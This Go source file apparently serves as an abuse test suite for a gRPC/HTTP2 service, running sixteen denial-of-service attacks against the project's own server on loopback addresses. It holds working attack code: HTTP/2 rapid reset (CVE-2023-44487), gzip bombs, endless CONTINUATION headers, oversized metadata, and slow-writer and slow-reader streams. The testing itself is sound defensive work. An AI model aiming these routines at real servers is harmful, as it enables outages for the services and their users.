package abuse

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	healthv1 "google.golang.org/grpc/health/grpc_health_v1"
	"google.golang.org/grpc/mem"
	"google.golang.org/grpc/metadata"
	reflectionv1 "google.golang.org/grpc/reflection/grpc_reflection_v1"
	"google.golang.org/protobuf/proto"

	integrationv1 "github.com/digate/digate/gen/diga/integration/v1"
)

const (
	copyMethod       = integrationv1.IntegrationService_CopyTemplate_FullMethodName
	bulkMethod       = integrationv1.IntegrationService_BulkCopyTemplate_FullMethodName
	watchMethod      = healthv1.Health_Watch_FullMethodName
	checkMethod      = healthv1.Health_Check_FullMethodName
	reflectionMethod = reflectionv1.ServerReflection_ServerReflectionInfo_FullMethodName
)

// attack is an attack on a server by strangers.
type attack struct {
	name string
	// many and few are the connections of the long and of the short form; streams and
	// fewStreams are those of each connection.
	many, few, streams, fewStreams int
	// spread means that each connection comes from an address of its own.
	spread bool
	// lasts is how long the attack takes, where that is another time than others take.
	lasts time.Duration
	// run attacks on one connection until the context ends.
	run func(*front, int)
}

// front is the part of an attack on one connection.
type front struct {
	ctx      context.Context
	from, to string
	streams  int
	tls      *tls.Config   // of its connections, nil for plain text
	protocol string        // of each's connections over TLS, HTTP/1.1 where it is empty
	done     *atomic.Int64 // streams opened, calls made, or connections
}

// attacks is the list of docs/abuse.md, in its order.
var attacks = []attack{
	{name: "reflection streams, nothing sent", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(reflectionMethod, false, nil)},
	{name: "the same from 60 addresses", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(reflectionMethod, false, nil)},
	{name: "health watches", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(watchMethod, false, []byte{})},
	{name: "health checks without a message", many: 60, few: 4, streams: 1000, fewStreams: 250, run: left(checkMethod, false, nil)},
	{name: "copies without a message, made-up tokens", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(copyMethod, true, nil)},
	{name: "bulk streams, made-up tokens", many: 60, few: 4, streams: 1000, fewStreams: 250, spread: true, run: left(bulkMethod, true, nil)},
	{name: "`Struct` bombs of 4 MiB", many: 8, few: 1, streams: 2, fewStreams: 1, run: explode},
	{name: "rapid reset", many: 10, few: 2, streams: 100, fewStreams: 100, run: rapidReset},
	{name: "calls without a credential", many: 10, few: 2, streams: 100, fewStreams: 50, run: flood},
	{name: "the same with a deadline of a day", many: 10, few: 2, streams: 100, fewStreams: 50, run: floodForADay},
	{name: "gzip bombs", many: 10, few: 2, streams: 100, fewStreams: 10, run: gzipBombs},
	{name: "messages of 4 MiB without their end", many: 60, few: 4, streams: 10, fewStreams: 10, spread: true, run: heldBack},
	{name: "metadata of 64 KiB", many: 10, few: 2, streams: 100, fewStreams: 20, run: largeMetadata(64 << 10)},
	{name: "metadata without an end", many: 10, few: 2, streams: 1, fewStreams: 1, run: endlessMetadata},
	{name: "a byte of a message at a time", many: 60, few: 4, streams: 100, fewStreams: 25, spread: true, run: slowWriter},
	{name: "reflection, responses left unread", many: 60, few: 4, streams: 100, fewStreams: 25, spread: true, run: slowReader},
}

// start begins the attack on an address, over TLS if there is any, which ends with the
// context. The function that it returns waits for the end, and returns how much was done.
func (a attack) start(ctx context.Context, to string, over *tls.Config, long bool) (wait func() int64) {
	connections, streams := a.few, a.fewStreams
	if long {
		connections, streams = a.many, a.streams
	}
	var (
		all  sync.WaitGroup
		done atomic.Int64
	)
	for n := range connections {
		from := "127.0.0.2"
		if a.spread {
			from = fmt.Sprintf("127.0.1.%d", n+1)
		}
		all.Go(func() {
			f := &front{ctx: ctx, from: from, to: to, tls: over, streams: streams, done: &done}
			a.run(f, n)
		})
	}
	return func() int64 {
		all.Wait()
		return done.Load()
	}
}

// shaking has a value for each TLS handshake of strangers that is under way. They are so
// few at a time that the attackers' half of the work leaves the callers beside them, in
// the same process, some of the processor.
var shaking = make(chan struct{}, 16)

// dial opens a connection that speaks a protocol, over TLS where the front has it.
func (f *front) dial(protocol string) (net.Conn, error) {
	conn, err := dialFrom(f.ctx, f.from, f.to)
	if err != nil || f.tls == nil {
		return conn, err
	}
	config := f.tls.Clone()
	config.NextProtos = []string{protocol}
	over := tls.Client(conn, config)
	shaking <- struct{}{}
	defer func() { <-shaking }()
	if err := over.HandshakeContext(f.ctx); err != nil {
		_ = conn.Close()
		return nil, err
	}
	return over, nil
}

// meet opens a connection that speaks HTTP/2.
func (f *front) meet(window uint32) (*stranger, error) {
	conn, err := f.dial("h2")
	if err != nil {
		return nil, err
	}
	return meet(f.ctx, conn, window)
}

// meeting opens connections, one after the other, and calls do with each until it
// is closed. After a refused connection it pauses.
func (f *front) meeting(window uint32, do func(*stranger) error) {
	for f.ctx.Err() == nil {
		s, err := f.meet(window)
		if err == nil {
			if err = do(s); err == nil {
				select {
				case <-s.gone:
				case <-f.ctx.Done():
				}
			}
			_ = s.conn.Close()
			<-s.gone
		}
		f.pause(50 * time.Millisecond)
	}
}

// pause waits until the time has passed or the context ends.
func (f *front) pause(d time.Duration) {
	select {
	case <-time.After(d):
	case <-f.ctx.Done():
	}
}

// left opens streams and leaves them. A message that is not nil is sent on each.
// With tokens, each stream has an invented token of its own.
func left(method string, tokens bool, message []byte) func(*front, int) {
	return func(f *front, n int) {
		f.meeting(65535, func(s *stranger) error {
			for range f.streams {
				token := ""
				if tokens {
					token = fmt.Sprintf("made-up-%d-%d", n, s.next)
				}
				if err := s.send(func() error {
					id, err := s.open(s.header(method, token), false)
					if err == nil && message != nil {
						err = s.message(id, false, message)
					}
					return err
				}); err != nil {
					return err
				}
				f.done.Add(1)
			}
			return nil
		})
	}
}

// rapidReset opens and resets streams as fast as the connection takes it
// (CVE-2023-44487).
func rapidReset(f *front, n int) {
	token := fmt.Sprintf("made-up-%d", n)
	f.meeting(65535, func(s *stranger) error {
		for {
			if err := s.send(func() error {
				for range f.streams {
					id, err := s.open(s.header(copyMethod, token), false)
					if err != nil {
						return err
					}
					if err := s.framer.WriteRSTStream(id, http2.ErrCodeCancel); err != nil {
						return err
					}
				}
				return nil
			}); err != nil {
				return err
			}
			f.done.Add(int64(f.streams))
		}
	})
}

// flood makes calls without a credential, so many at a time.
func flood(f *front, _ int) {
	f.calls(func(s *stranger) []byte { return s.header(copyMethod, "") }, framed(nil))
}

// floodForADay is flood with calls that give the server much time.
func floodForADay(f *front, _ int) {
	f.calls(func(s *stranger) []byte {
		return s.header(copyMethod, "", hpack.HeaderField{Name: "grpc-timeout", Value: "24H"})
	}, framed(nil))
}

// gzipBombs makes calls whose messages are a thousand times larger once decompressed.
func gzipBombs(f *front, n int) {
	token := fmt.Sprintf("made-up-%d", n)
	f.calls(func(s *stranger) []byte {
		return s.header(copyMethod, token, hpack.HeaderField{Name: "grpc-encoding", Value: "gzip"})
	}, gzipBomb())
}

// gzipBomb is a compressed message, no longer than a frame, of 15 MiB.
var gzipBomb = sync.OnceValue(func() []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	_, _ = w.Write(make([]byte, 15<<20))
	_ = w.Close()
	return append(binary.BigEndian.AppendUint32([]byte{1}, uint32(b.Len())), b.Bytes()...)
})

// framed returns a message as a stream has it.
func framed(message []byte) []byte {
	return append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
}

// heldBack sends large messages but for their last bytes, as fast as the server takes
// them.
func heldBack(f *front, n int) {
	const size = 4<<20 - 1<<10
	part := make([]byte, frameBytes)
	f.meeting(65535, func(s *stranger) error {
		for range f.streams {
			var id uint32
			if err := s.send(func() (err error) {
				s.windows.begin(s.next)
				id, err = s.open(s.header(copyMethod, fmt.Sprintf("made-up-%d-%d", n, s.next)), false)
				if err == nil {
					s.windows.take(f.ctx, s.gone, 5)
					err = s.framer.WriteData(id, false, binary.BigEndian.AppendUint32([]byte{0}, size))
				}
				return err
			}); err != nil {
				return err
			}
			for sent := 5; sent+len(part) < size; sent += len(part) {
				if !s.windows.take(f.ctx, s.gone, len(part)) {
					return nil // the server takes no more of it
				}
				if err := s.send(func() error { return s.framer.WriteData(id, false, part) }); err != nil {
					return err
				}
			}
			f.done.Add(1)
		}
		return nil
	})
}

// largeMetadata makes calls with so many bytes of metadata.
func largeMetadata(size int) func(*front, int) {
	value := strings.Repeat("~", size)
	return func(f *front, n int) {
		token := fmt.Sprintf("made-up-%d", n)
		f.calls(func(s *stranger) []byte {
			return s.header(copyMethod, token, hpack.HeaderField{Name: "x-much", Value: value, Sensitive: true})
		}, framed(nil))
	}
}

// calls makes complete calls with a header and a message, f.streams at a time.
func (f *front) calls(header func(*stranger) []byte, message []byte) {
	f.meeting(65535, func(s *stranger) error {
		s.places = make(chan struct{}, f.streams)
		for {
			select {
			case s.places <- struct{}{}:
			case <-s.gone:
				return nil
			}
			if err := s.send(func() error {
				id, err := s.openLarge(header(s))
				if err != nil {
					return err
				}
				return s.framer.WriteData(id, true, message)
			}); err != nil {
				return err
			}
			f.done.Add(1)
		}
	})
}

// frameBytes is the largest frame that a server must take.
const frameBytes = 16 << 10

// openLarge writes the header of the next stream in as many frames as it needs.
func (s *stranger) openLarge(header []byte) (uint32, error) {
	id := s.next
	s.next += 2
	part, rest := header[:min(len(header), frameBytes)], header[min(len(header), frameBytes):]
	err := s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: part, EndHeaders: len(rest) == 0})
	for len(rest) > 0 && err == nil {
		part, rest = rest[:min(len(rest), frameBytes)], rest[min(len(rest), frameBytes):]
		err = s.framer.WriteContinuation(id, len(rest) == 0, part)
	}
	return id, err
}

// endlessMetadata sends a header that never ends, in CONTINUATION frames.
func endlessMetadata(f *front, _ int) {
	value := strings.Repeat("~", frameBytes-100)
	f.meeting(65535, func(s *stranger) error {
		header := bytes.Clone(s.header(copyMethod, "made-up"))
		s.block.Reset()
		_ = s.fields.WriteField(hpack.HeaderField{Name: "x-more", Value: value, Sensitive: true})
		more := s.block.Bytes()
		id := s.next
		if err := s.send(func() error {
			return s.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: header})
		}); err != nil {
			return err
		}
		for {
			if err := s.send(func() error { return s.framer.WriteContinuation(id, false, more) }); err != nil {
				return err
			}
			f.done.Add(1)
		}
	})
}

// slowWriter begins messages of 1 MiB, and sends a byte of each twice a second.
func slowWriter(f *front, n int) {
	f.meeting(65535, func(s *stranger) error {
		var ids []uint32
		for range f.streams {
			if err := s.send(func() error {
				id, err := s.open(s.header(copyMethod, fmt.Sprintf("made-up-%d-%d", n, s.next)), false)
				ids = append(ids, id)
				if err == nil {
					err = s.framer.WriteData(id, false, []byte{0, 0, 16, 0, 0})
				}
				return err
			}); err != nil {
				return err
			}
			f.done.Add(1)
		}
		for f.ctx.Err() == nil {
			f.pause(500 * time.Millisecond)
			if err := s.send(func() error {
				for _, id := range ids {
					if err := s.framer.WriteData(id, false, []byte{0}); err != nil {
						return err
					}
				}
				return nil
			}); err != nil {
				return err
			}
		}
		return nil
	})
}

// slowReader asks for the descriptor of the contract again and again, on streams
// whose windows stay closed.
func slowReader(f *front, _ int) {
	request, _ := proto.Marshal(&reflectionv1.ServerReflectionRequest{MessageRequest: &reflectionv1.ServerReflectionRequest_FileContainingSymbol{
		FileContainingSymbol: integrationv1.IntegrationService_ServiceDesc.ServiceName,
	}})
	f.meeting(0, func(s *stranger) error {
		for range f.streams {
			if err := s.send(func() error {
				id, err := s.open(s.header(reflectionMethod, ""), false)
				for range 20 {
					if err == nil {
						err = s.message(id, false, request)
					}
				}
				return err
			}); err != nil {
				return err
			}
			f.done.Add(1)
		}
		return nil
	})
}

// explode sends bombs, f.streams at a time.
func explode(f *front, n int) {
	conn, err := dialClient(f.tls, f.from, f.to)
	if err != nil {
		return
	}
	defer func() { _ = conn.Close() }()
	charges := allBombs()
	var all sync.WaitGroup
	for m := range f.streams {
		all.Go(func() {
			for k := 0; f.ctx.Err() == nil; k++ {
				ctx := metadata.AppendToOutgoingContext(f.ctx, "authorization", fmt.Sprintf("Bearer made-up-%d-%d", n, m))
				var ignored []byte
				f.done.Add(1)
				_ = conn.Invoke(ctx, copyMethod, charges[k%len(charges)], &ignored, grpc.ForceCodecV2(asIs{}))
			}
		})
	}
	all.Wait()
}

var allBombs = sync.OnceValue(bombs)

// asIs is a codec for messages that are encoded already.
type asIs struct{}

func (asIs) Name() string { return "proto" }

func (asIs) Marshal(v any) (mem.BufferSlice, error) {
	return mem.BufferSlice{mem.SliceBuffer(v.([]byte))}, nil
}

func (asIs) Unmarshal(data mem.BufferSlice, v any) error {
	*v.(*[]byte) = data.Materialize()
	return nil
}
